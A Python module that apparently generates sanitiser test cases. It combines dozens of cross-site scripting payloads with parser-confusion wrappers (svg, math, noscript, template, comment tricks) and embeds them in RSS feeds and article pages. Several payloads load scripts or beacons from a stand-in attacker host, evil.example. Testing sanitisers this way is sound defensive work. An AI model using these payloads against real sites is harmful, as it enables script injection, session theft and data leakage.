"""What tries to run a script where our pages are read, made from what is alive and what hides it from a sanitiser.

Each of `CORES` runs by itself; each of `SHELLS` is a place where one parser
takes for text, or for a comment, what another takes for an element.
"""

import html
import json
from collections.abc import Iterator

CORES = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)></svg>",
    "<svg/onload=alert(1)//",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype='statusline#' xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>",
    "<p onmouseover=alert(1) tabindex=1 onfocus=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=javascript:/a/><a href=#alert(1)>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</td></table>",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    "<select><option><script>alert(1)</script></option></select>",
    "<img srcset='x onerror=alert(1)' data-src='javascript:alert(1)' alt='\"onerror=alert(1) x=\"'>",
    "<div is=x-y><slot onslotchange=alert(1)>x</slot></div>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<xss id=x onfocusin=alert(1) tabindex=1>x</xss>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet type='text/xsl' href='data:text/xml,<script>alert(1)</script>'?>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /><style>@import '//evil.example/x.css'</style></svg>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<a href='javascript&#13;&#10;:alert(1)'>x</a><a href='java&NewLine;script&Tab;:alert(1)'>x</a>",
    "<a href='&#14; &#x202e;javascript:alert(1)'>x</a><a href='JaVaScRiPt&#0058alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a><a href='blob:x'>x</a><a href='filesystem:x'>x</a>",
    "<a href='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />'>x</a>",
    "<a href=/x ping=//evil.example/ping target=x>x</a>",
    "<form name=body><input name=firstChild><input name=attributes></form><img name=documentElement><a id=location>",
    "<p style='background:url(//evil.example/a.png)'>x</p><style>[id^=a]{background:url(//evil.example/b.png)}</style>",
    "<link rel=preload as=script href=//evil.example/x.js><link rel=modulepreload href=//evil.example/y.js>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><meta http-equiv=set-cookie content=a=b>",
    "<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>",
    "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=alert(1)>x</p>",
    "<input type=image src=x onerror=alert(1)><video poster=javascript:alert(1) src=x onerror=alert(1)>",
    "<object type=text/html data=//evil.example/x><param name=movie value=javascript:alert(1)></object>",
    "<img src='//evil.example/?",
)
SHELLS = (
    "{}",
    "<p>{}</p>",
    "<p title='{}'>x</p>",
    "<img src=/a.jpg alt='{}'>",
    "<b><!--{}--></b>",
    "<!--><p>{}-->",
    "<!--!>{}--!>",
    "<![CDATA[{}]]>",
    "<style>{}</style>",
    "<style><!--</style>{}--></style>",
    "<title></title>{}",
    "<textarea></textarea>{}",
    "<xmp>{}</xmp>{}",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<noembed></noembed>{}",
    "<plaintext>{}",
    "<template>{}</template>",
    "<svg><desc>{}</desc></svg>",
    "<svg></p><style><a id='</style>{}'>",
    "<svg><foreignObject><p>{}</p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<math><annotation-xml encoding=text/html><p>{}</p></annotation-xml></math>",
    "<select><template>{}</template></select>",
    "<table><td><table>{}</table></td></table>",
    "<table>{}<tr><td>x</td></tr></table>",
    "<a href='/x'><a href='/y'>{}</a></a>",
    "<figure><img src=/b.jpg><figcaption>{}</figcaption></figure>",
    "<pre><code>{}</code></pre>",
    "<blockquote cite='{}'>x</blockquote>",
    "<ul><li>{}</li></ul>",
    "]]>{}<![CDATA[",
    "<?x {}?>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;",
    "<noscript>{}</noscript>",
    "<noscript><style></noscript>{}</style></noscript>",
    "<script>{}</script>",
    "<iframe>{}</iframe><noframes>{}</noframes>",
    "<object data=/x>{}</object>",
    "<svg><title><style>{}</style></title></svg>",
    "<svg><style>&lt;/style>{}</style></svg>",
    "<svg><![CDATA[><p title=']]>{}'>",
    "<math><annotation-xml encoding=application/xhtml+xml><style><!--</style>{}--></style></annotation-xml></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{}'></style></h1>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea>{}'>",
    "<table><caption><svg><title><table></table><style><!--</style>{}--></style></title></svg></caption></table>",
    "<div><template><template>{}</template></template></div>",
    f"{'<div>' * 520}<svg><style><a id='</style>{{}}'>",
    "<p>\u202e{}\u2066</p>",
    "<p>\0{}\ufeff</p>",
)
WORDS = (
    "The harbour of the town is old, and its walls are older still than the oldest of the houses around it.",
    "Twice a day the water comes in over the mud, and the boats that lay on their sides stand up and swing about.",
    "People who live there set their clocks by it, and so do the birds, which walk out as the last water leaves.",
    "In the evening the lamps are lit along the quay, and whoever has come in from the sea is asked for news.",
)


def payloads() -> list[str]:
    """Return each core in every shell, and as it stands once more where it was escaped twice."""
    return [shell.replace("{}", core) for core in CORES for shell in SHELLS] + [html.escape(core) for core in CORES]


def feed(tried: str) -> bytes:
    """Return a feed that has a payload wherever it fits."""
    words = html.escape(tried)
    return f"""<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>{words}</title>
    <item><title>{words}</title><link>{words}</link><guid>1</guid><author>{words}</author><category>{words}</category>
    <description>{words}</description><content:encoded>{words}</content:encoded></item></channel></rss>""".encode()


def pages(tried: list[str]) -> Iterator[bytes]:
    """Yield article pages that have the payloads wherever they fit, eight at a time."""
    for start in range(0, len(tried), 8):
        yield _page([*tried[start : start + 8], *tried[:8]][:8])


def _page(tried: list[str]) -> bytes:
    title, name, line, caption, alt, *inside = (html.escape(one) for one in tried)
    told = {"@type": "NewsArticle", "headline": tried[0], "author": {"@type": "Person", "name": tried[1]}}
    raw = [f"<p>{words}</p>{one}" for words, one in zip(WORDS, tried[4:8], strict=True)]
    return f"""<!doctype html><html lang=en><head><title>{title}</title><meta property="og:title" content="{title}">
    <meta name="author" content="{name}"><meta name="description" content="{line}"><link rel=canonical href="{alt}">
    <meta property="og:image" content="{alt}"><meta property="article:section" content="{name}">
    <script type="application/ld+json">{json.dumps(told).replace("<", chr(92) + "u003c")}</script></head>
    <body><article><h1>{title}</h1><h2 class="subtitle">{line}</h2>
    <p class="byline">By <a rel=author href="{alt}">{name}</a></p>
    <figure><img src="/a.jpg" alt="{alt}"><figcaption>{caption}</figcaption></figure>
    {"".join(raw)}<p>{inside[0]}</p><blockquote>{inside[1]}</blockquote><p>{WORDS[0]}</p></article></body></html>""".encode()
